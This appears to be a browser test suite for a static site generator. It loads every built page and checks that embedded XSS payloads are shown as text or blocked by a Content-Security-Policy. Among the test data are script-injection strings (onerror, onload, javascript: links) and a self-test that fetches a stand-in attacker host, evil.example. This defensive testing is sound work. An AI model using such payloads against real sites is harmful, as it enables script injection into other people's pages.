// The hostile-input corpus in Debian's Chromium, run by tests/hostile.rs (which builds the
// sites). Site A: hostile text everywhere, raw HTML sanitised. Site B: `trust_html: true`,
// where the Content-Security-Policy alone must stop the payloads.
//
// Every payload tries to call alert(), a trap function or a URL on another origin. For each
// page of the output, over http (under a sub-path of 127.0.0.1) and from disk (the --portable
// build), the test loads it, hovers, focuses, clicks and toggles what is on it, and asserts:
// no dialog, no trap called, no request to another origin, no script error, no Content-
// Security-Policy violation other than a blocked hostile load (none caused by our own
// scripts or files), nothing in the DOM that could run, and the hostile text shown as text.
//
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join, relative, sep } from 'node:path';
import { pathToFileURL } from 'node:url';
import { launch, serve } from './chromium.mjs';

const SITES = {
  a: process.env.HOSTILE_SITE,
  b: process.env.HOSTILE_TRUSTED,
};
const PORTABLE = {
  a: process.env.HOSTILE_PORTABLE,
  b: process.env.HOSTILE_TRUSTED_PORTABLE,
};
const check = (name, fn) => test(name, fn);

let server, base, browser;

before(async () => {
  // Each site under its own sub-path: /a/ and /b/.
  ({ server, base } = await serve(SITES));
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.close();
});

/** Every HTML file of a built site, relative, with `/`. */
function pages(root) {
  const out = [];
  const walk = (dir) => {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) walk(path);
      else if (name.endsWith('.html')) out.push(relative(root, path).split(sep).join('/'));
    }
  };
  walk(root);
  return out;
}

const httpUrl = (site, path) => base + site + '/' + path.replace(/index\.html$/, '').split('/').map(encodeURIComponent).join('/');
const fileUrl = (site, path) => pathToFileURL(join(PORTABLE[site], path)).href;
const isLocal = (url) => url.startsWith(base) || /^(file|data|blob|about):/.test(url);

/** A browser context that records everything a payload could do. */
async function watched() {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  const log = { dialogs: [], pwned: [], requests: [], errors: [], csp: [] };
  await context.exposeBinding('__pwned', ({ page }, what) => log.pwned.push(`${page?.url()}: ${what}`));
  await context.exposeBinding('__cspReport', ({ page, frame }, v) => log.csp.push({ ...v, page: page?.url(), frame: frame?.url() }));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspReport({ directive: e.effectiveDirective, blocked: e.blockedURI, source: e.sourceFile, sample: e.sample });
    });
  });
  // A request to another origin that reaches the network is recorded (and aborted); one the
  // Content-Security-Policy blocks never gets here (Playwright reports it failed with `csp`).
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (isLocal(url)) return route.continue();
    log.requests.push(url);
    return route.abort();
  });
  context.on('requestfailed', (r) => { if (!isLocal(r.url()) && r.failure()?.errorText !== 'csp' && !log.requests.includes(r.url())) log.requests.push(r.url()); });
  context.on('response', (r) => { if (!isLocal(r.url())) log.requests.push(r.url()); });
  context.on('page', (page) => {
    page.on('dialog', (d) => { log.dialogs.push(`${page.url()}: ${d.type()} “${d.message()}”`); d.dismiss().catch(() => {}); });
    page.on('pageerror', (e) => log.errors.push(`${page.url()}: ${e.message}`));
  });
  return { context, log };
}

/** Asserts that nothing ran. `cspAllowed(v)` says which violations are blocked payloads. */
function assertQuiet(log, cspAllowed) {
  assert.deepEqual(log.dialogs, [], 'a payload opened a dialog');
  assert.deepEqual(log.pwned, [], 'a payload called the trap');
  assert.deepEqual(log.requests, [], 'a request went to another origin');
  assert.deepEqual(log.errors, [], 'a script failed');
  const ours = log.csp.filter((v) => !cspAllowed(v) && (/\/static\/[^/]*\.js/.test(v.source || '') || (v.blocked || '').startsWith(base) || /^file/.test(v.blocked || '')));
  assert.deepEqual(ours, [], 'the Content-Security-Policy blocked our own scripts or files');
  const other = log.csp.filter((v) => !cspAllowed(v));
  assert.deepEqual(other, [], 'unexpected Content-Security-Policy violations');
}

/** Hovers, focuses, clicks and toggles everything a reader could (without following links):
 * by events sent to every element, and with the real mouse over the content when `real`. */
async function exercise(page, real) {
  await page.evaluate(() => {
    const mouse = ['pointerover', 'mouseover', 'mouseenter', 'mousemove', 'pointerdown', 'mousedown', 'mouseup', 'mouseleave', 'mouseout'];
    for (const el of document.querySelectorAll('body *')) {
      for (const type of mouse) el.dispatchEvent(new MouseEvent(type, { bubbles: true }));
      el.dispatchEvent(new FocusEvent('focus'));
      el.dispatchEvent(new FocusEvent('focusin', { bubbles: true }));
      if (typeof el.focus === 'function') el.focus();
      el.dispatchEvent(new Event('animationstart', { bubbles: true }));
      const link = el.closest('a, button, input, select, textarea, form, label');
      if (!link) el.dispatchEvent(new MouseEvent('click', { bubbles: true }));
      if (el.localName === 'details') el.open = !el.open;
    }
  });
  if (real) {
    for (const summary of await page.locator('summary').all()) await summary.click({ timeout: 500, force: true }).catch(() => {});
    // The mouse over the middle of every element of the content, a screenful at a time.
    const screen = page.viewportSize().height;
    const height = await page.evaluate(() => document.documentElement.scrollHeight);
    for (let top = 0; top < Math.min(height, 20 * screen); top += screen) {
      const points = await page.evaluate((top) => {
        window.scrollTo(0, top);
        return Array.from(document.querySelectorAll('main *'), (el) => {
          const r = el.getBoundingClientRect();
          return [r.left + r.width / 2, r.top + r.height / 2];
        }).filter(([x, y]) => x > 0 && y > 0 && y < innerHeight);
      }, top);
      for (const [x, y] of points) await page.mouse.move(x, y);
    }
  }
  await page.waitForTimeout(50);
}

/** What in the DOM could run: event handler attributes, script URLs, scripts, frames. */
function audit() {
  const problems = [];
  const edition = /\/downloads\/handbook-[^/]+\.html$/.test(location.pathname);
  const urlAttributes = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'ping', 'cite'];
  let inline = 0;
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`<${el.localName} ${name}="${a.value}">`);
      if (name === 'srcdoc') problems.push(`<${el.localName} srcdoc>`);
      if (urlAttributes.includes(name) && /^(javascript|vbscript|data|livescript):/i.test(a.value.replace(/[\u0000-\u0020]/g, ''))) problems.push(`<${el.localName} ${name}="${a.value}">`);
    }
    const ourBase = el.localName === 'base' && /\/404\.html$/.test(location.pathname) && /^\/(?!\/)/.test(el.getAttribute('href'));
    if (['iframe', 'frame', 'object', 'embed', 'applet', 'base', 'svg', 'math', 'portal'].includes(el.localName) && !ourBase) problems.push(`<${el.localName}>`);
    if (el.localName === 'script') {
      const src = el.getAttribute('src');
      const type = el.getAttribute('type');
      if (src === null && type === 'application/ld+json') continue;
      if (src === null && type === null && edition) { inline += 1; continue; }
      if (src !== null && /\/static\/(search|offline|stemmers\/[a-z]+)\.js\?v=[0-9a-f]+$/.test(el.src) && !edition) continue;
      problems.push(`a script that is not ours: ${el.outerHTML.slice(0, 200)}`);
    }
    if (el.localName === 'meta' && /refresh/i.test(el.getAttribute('http-equiv') || '')) problems.push('<meta http-equiv=refresh>');
  }
  for (const link of document.links) if (!/^(https?|file|tel|mailto|sms|geo):$/.test(link.protocol)) problems.push(`a link to ${link.protocol}: ${link.href}`);
  if (edition && inline !== 1) problems.push(`${inline} inline scripts in the edition`);
  return problems;
}

/** Violations caused by a hostile load that the policy blocked: fine, that is its job. The
 * payloads' `<img src=x>` (kept by the sanitiser, without its `onerror`) is blocked in the
 * single-file editions, whose policy allows only data: images (Chromium names a blocked
 * file:// URL just `file`; the editions drop the site's own images, so any is a payload's). */
const blockedHostile = (v) =>
  /^https?:\/\/(evil|tracker)\.example(\/|$)/.test(v.blocked || '') ||
  (/\/downloads\/handbook-[^/]+\.html$/.test(v.page || '') && v.directive === 'img-src' && (/\/downloads\/x$/.test(v.blocked) || v.blocked === 'file'));

async function visitAll(site, urls, { cspAllowed, dom = true, realMouse = true }) {
  const { context, log } = await watched();
  const problems = [];
  const queue = [...urls];
  const worker = async () => {
    const page = await context.newPage();
    for (let url = queue.shift(); url; url = queue.shift()) {
      await page.goto(url, { waitUntil: 'load' });
      // The real mouse over the pages full of payloads, over http, in their own language (in
      // English, each move over Chinese text waits about a second for fonts in headless
      // Chromium).
      await exercise(page, realMouse && /\/zh-Hans\/(evil\/(raw|markdown)|offices\/region\/gd\/sz|trusted)\/$/.test(url));
      if (dom) problems.push(...(await page.evaluate(audit)).map((p) => `${url}: ${p}`));
      if (!isLocal(page.url()) || page.url().startsWith('about:')) problems.push(`${url}: navigated to ${page.url()}`);
    }
    await page.close();
  };
  await Promise.all([worker(), worker(), worker()]);
  await context.close();
  assert.deepEqual(problems, [], `${site}: something that could run is in the page`);
  assertQuiet(log, cspAllowed);
  return log;
}

check('the traps catch a payload that runs', async () => {
  const { context, log } = await watched();
  const page = await context.newPage();
  await page.setContent(`<img src=x onerror="alert('self-test'); __pwned('self-test'); fetch('https://evil.example/self-test').catch(() => {})">`);
  await page.waitForTimeout(300);
  await context.close();
  assert.equal(log.dialogs.length, 1, JSON.stringify(log));
  assert.equal(log.pwned.length, 1, JSON.stringify(log));
  assert.deepEqual(log.requests, ['https://evil.example/self-test']);
});

check('site A over http: every page, nothing runs', async () => {
  const all = pages(SITES.a);
  assert.ok(all.length >= 20, `${all.length} pages`);
  await visitAll('a', all.map((p) => httpUrl('a', p)), { cspAllowed: blockedHostile });
});

check('site A from disk (--portable): every page, nothing runs', async () => {
  const all = pages(PORTABLE.a);
  await visitAll('a', all.map((p) => fileUrl('a', p)), { cspAllowed: blockedHostile, realMouse: false });
});

/** Opens a page and returns its text in places. */
async function texts(page, url, selectors) {
  await page.goto(url);
  const out = { title: await page.title() };
  for (const [name, selector] of Object.entries(selectors)) {
    out[name] = (await page.locator(selector).allTextContents()).join('\n');
  }
  return out;
}

const literal = (name) => [`<script>alert('${name}')</script>`, `<img src=x onerror=alert('${name}')>`];
function assertShown(text, name, where) {
  for (const piece of literal(name)) assert.ok(text.includes(piece), `${where}: “${piece}” is not shown as text in: ${text.slice(0, 400)}`);
}

check('hostile text is shown as text: titles, headings, site title, hotlines, UI strings, languages', async () => {
  const { context, log } = await watched();
  const page = await context.newPage();
  const front = await texts(page, httpUrl('a', 'en/index.html'), {
    siteTitle: '.site-title', h1: 'main h1', hotline: '.hotlines .label', skip: 'a.skip', languages: 'nav.languages',
  });
  assertShown(front.title, 'site-title-en', '<title>');
  assertShown(front.siteTitle, 'site-title-en', 'site title');
  assertShown(front.h1, 'home-title-en', 'h1');
  assertShown(front.hotline, 'hotline-en', 'hotline label');
  assertShown(front.skip, 'ftl-skip-to-content-en', 'UI string');
  assertShown(front.languages, 'language-zh', 'language name');
  assert.ok(front.languages.includes('{ $source }'), 'Fluent syntax in a language name is text');
  assert.ok((await page.locator('meta[name=description]').getAttribute('content')).includes("<img src=x onerror=alert('home-description-en')>"));
  assert.ok((await page.locator('.hotlines').getAttribute('aria-label')).includes(`<img src=x onerror=alert('ftl-hotlines-label-en')>`));
  const raw = await texts(page, httpUrl('a', 'en/evil/raw/'), { h1: 'main h1', h2: 'article h2', notice: '.notice.fallback', body: 'article' });
  assertShown(raw.h1, 'raw-title', 'page h1');
  assert.ok(raw.h2.includes("Heading </script><script>alert('heading-code')</script>"), raw.h2);
  assertShown(raw.notice, 'ftl-fallback-en', 'fallback notice');
  assertShown(raw.notice, 'language-en', 'language name inside a UI string');
  for (const word of ['hover raw-11', 'js link raw-14', 'quote break raw-29', 'toggle raw-9']) assert.ok(raw.body.includes(word), `the text of a sanitised element stays: ${word}`);
  const md = await texts(page, httpUrl('a', 'en/evil/markdown/'), { body: 'article' });
  assert.ok(md.body.includes("<script>alert('entity-text')</script>"), 'entities are text');
  assert.ok(md.body.includes("<img src=x onerror=alert('escaped-text')>"), 'escaped HTML is text');
  assert.ok(md.body.includes("</script><script>alert('code-block')</script><!--"), 'code blocks are text');
  assert.equal(await page.locator('article img[alt^="alt"]').count(), 1, 'the image with a hostile alt text is there');
  const region = await texts(page, httpUrl('a', 'en/offices/region/gd/sz/'), { h1: 'main h1', office: 'article.office', crumbs: '.breadcrumbs' });
  assertShown(region.h1, 'city-en', 'region name');
  assertShown(region.crumbs, 'region-en', 'parent region name');
  for (const name of ['office-en', 'address-en', 'phone-label-en', 'kind-en', 'service-en', 'ftl-office-example-en']) assertShown(region.office, name, name);
  const jsonLd = JSON.parse(await page.locator('script[type="application/ld+json"]').first().textContent());
  assert.ok(JSON.stringify(jsonLd).includes("<script>alert('office-en')</script>"), 'JSON-LD keeps the name whole');
  const home = await texts(page, httpUrl('a', 'en/offices/'), { intro: 'main' });
  assertShown(home.intro, 'ftl-directory-intro-en', 'directory intro');
  const chooser = await texts(page, httpUrl('a', 'index.html'), { main: 'main' });
  assertShown(chooser.main, 'ftl-choose-language-zh-Hans', 'chooser');
  await context.close();
  assertQuiet(log, blockedHostile);
});

check('a hostile slug is one safe URL segment', async () => {
  const { context, log } = await watched();
  const page = await context.newPage();
  await page.goto(httpUrl('a', 'en/evil/markdown/'));
  const link = page.locator('article a', { hasText: 'the slugged page' });
  const href = await link.getAttribute('href');
  assert.ok(!/[<>"' ]/.test(href), `unescaped characters in ${href}`);
  await link.click();
  await page.waitForLoadState('load');
  assertShown(await page.locator('main h1').textContent(), 'slug-title', 'slugged page');
  await context.close();
  assertQuiet(log, blockedHostile);
});

/** Runs a search on a search page and returns the results' HTML and text. */
async function search(page, url) {
  await page.goto(url);
  await page.waitForSelector('[data-search-results][data-search-state="done"]', { state: 'attached', timeout: 15000 });
  await page.waitForTimeout(50);
  return {
    html: await page.locator('[data-search-results]').innerHTML(),
    text: await page.locator('[data-search-results]').textContent(),
    status: await page.locator('.search-status').textContent(),
    hrefs: await page.locator('[data-search-results] > li > a').evaluateAll((as) => as.map((a) => a.getAttribute('href'))),
  };
}

for (const [how, url] of [
  ['http', (lang, q) => `${httpUrl('a', `${lang}/search/`)}?q=${encodeURIComponent(q)}`],
  ['file://', (lang, q) => `${fileUrl('a', `${lang}/search/index.html`)}?q=${encodeURIComponent(q)}`],
]) {
  check(`${how}: search excerpts and titles next to hostile text are text`, async () => {
    const { context, log } = await watched();
    const page = await context.newPage();
    const en = await search(page, url('en', 'zebrafinch'));
    assert.ok(en.hrefs.some((h) => h.includes('evil/bait')), en.html);
    assertShown(en.text, 'bait-title-en', 'result title');
    assert.ok(en.text.includes("<img src=x onerror=alert('excerpt-en')>"), `excerpt: ${en.text}`);
    for (const tag of ['<img', '<script', '<svg']) assert.ok(!en.html.includes(tag), `${tag} in the results' HTML: ${en.html}`);
    assert.ok(en.html.includes('<mark>'), 'the match is highlighted');
    assertShown(en.status, 'ftl-search-found-en', 'status');
    const zh = await search(page, url('zh-Hans', '斑马雀'));
    assert.ok(zh.text.includes("<img src=x onerror=alert('excerpt-zh')>"), `excerpt: ${zh.text}`);
    assert.ok(!zh.html.includes('<img'), zh.html);
    // The query itself, reflected into the page.
    const query = `<img src=x onerror=alert('query')>"><script>alert('query2')</script> zebrafinch`;
    const reflected = await search(page, url('en', query));
    assert.equal(await page.inputValue('#search-input'), query);
    assert.ok(!reflected.html.includes('<img'), reflected.html);
    // Nothing found: the UI string is text.
    const none = await search(page, url('en', 'qqqxxyyzzvvv'));
    assertShown(none.status, 'ftl-search-none-en', 'no results');
    // Typing.
    await page.fill('#search-input', `zebra <svg onload=alert('typed')>`);
    await page.waitForTimeout(400);
    await page.waitForSelector('[data-search-results][data-search-state="done"]', { state: 'attached' });
    assert.ok(!(await page.locator('[data-search-results]').innerHTML()).includes('<svg'));
    await context.close();
    assertQuiet(log, blockedHostile);
  });
}

check('the single-file editions search hostile titles as text', async () => {
  const { context, log } = await watched();
  const page = await context.newPage();
  for (const url of [fileUrl('a', 'downloads/handbook-en.html'), httpUrl('a', 'downloads/handbook-en.html')]) {
    await page.goto(url);
    await page.fill('#q', 'zebrafinch');
    await page.locator('#hits a').first().waitFor();
    const text = await page.locator('#hits').textContent();
    assertShown(text, 'bait-title-en', 'edition search');
    assert.ok(!(await page.locator('#hits').innerHTML()).includes('<img'));
    assertShown(await page.locator('main > p').first().textContent(), 'ftl-single-intro-en', 'edition intro');
    await page.fill('#q', `<img src=x onerror=alert('edition-query')>`);
    await page.waitForTimeout(100);
  }
  await context.close();
  assertQuiet(log, blockedHostile);
});

check('saving for offline reading stays on the site', async () => {
  const { context, log } = await watched();
  const page = await context.newPage();
  await page.goto(httpUrl('a', 'en/'));
  // With service workers blocked, the button still saves into the Cache API.
  const button = page.locator('[data-offline-save]');
  await button.waitFor({ state: 'visible', timeout: 5000 }).catch(() => {});
  assert.ok((await button.getAttribute('data-label')).includes("<img src=x onerror=alert('ftl-offline-save-en')>"));
  if (await button.isVisible()) {
    await button.click();
    await page.waitForFunction(() => document.querySelector('[data-offline-save]').dataset.saved === '1' || !document.querySelector('[data-offline-save]').disabled, null, { timeout: 15000 });
    assertShown(await button.textContent(), 'ftl-offline-save-en', 'save button');
  }
  await context.close();
  assertQuiet(log, blockedHostile);
});

check('an English search for “constructor prototype” finds the page with those words', async () => {
  const { context, log } = await watched();
  const page = await context.newPage();
  const found = await search(page, `${httpUrl('a', 'en/search/')}?q=constructor%20prototype`);
  assert.ok(found.hrefs.some((h) => h.includes('evil/bait')), `no result: ${found.status}`);
  await context.close();
  assertQuiet(log, blockedHostile);
});

// ---- Site B: trust_html, so the Content-Security-Policy is the only defence ----

/** Violations of site B: each must be a payload the policy blocked. */
const blockedPayload = (v) =>
  blockedHostile(v) || ['inline', 'eval', 'data', 'javascript'].includes(v.blocked) || /^(data|javascript):/.test(v.blocked || '') || v.blocked === '';

for (const [how, urlOf, root] of [['http', (p) => httpUrl('b', p), () => SITES.b], ['file://', (p) => fileUrl('b', p), () => PORTABLE.b]]) {
  check(`site B (trust_html) over ${how}: the Content-Security-Policy stops every payload`, async () => {
    // The pages with the payloads (the rest of site B is site A's chrome without them).
    const all = pages(root()).filter((p) => /^(downloads|[^/]+\/trusted)\//.test(p));
    assert.equal(all.length, 4, all.join(', '));
    const log = await visitAll('b', all.map(urlOf), { cspAllowed: blockedPayload, dom: false });
    // The payloads were there, and were blocked.
    const onPage = log.csp.filter((v) => (v.page || '').includes('trusted'));
    assert.ok(onPage.length >= 8, `only ${onPage.length} violations reported: ${JSON.stringify(onPage)}`);
    // A javascript: link and a form to another site, followed as a reader would.
    const { context, log: clicks } = await watched();
    const page = await context.newPage();
    await page.goto(urlOf('zh-Hans/trusted/index.html'));
    await page.locator('a[id^="js-link-"]').first().click();
    await page.evaluate(() => document.querySelector('form[id*="form-"]').requestSubmit());
    await page.waitForTimeout(300);
    await context.close();
    assertQuiet(clicks, blockedPayload);
    assert.ok(clicks.csp.some((v) => v.directive === 'script-src-elem' || v.directive === 'script-src' || v.directive === 'form-action'), JSON.stringify(clicks.csp));
  });
}

check('the single-file edition’s policy stops <base> and forms to other sites', async () => {
  for (const url of [httpUrl('b', 'downloads/handbook-zh-Hans.html'), fileUrl('b', 'downloads/handbook-zh-Hans.html')]) {
    const { context, log } = await watched();
    const page = await context.newPage();
    await page.goto(url);
    assert.ok(!(await page.evaluate(() => document.baseURI)).startsWith('https://evil.example'), 'a <base> from the content moved every in-page link to another site');
    await page.evaluate(() => document.querySelector('form[id*="form-"]').requestSubmit());
    await page.waitForTimeout(300);
    await context.close();
    assertQuiet(log, blockedPayload);
  }
});
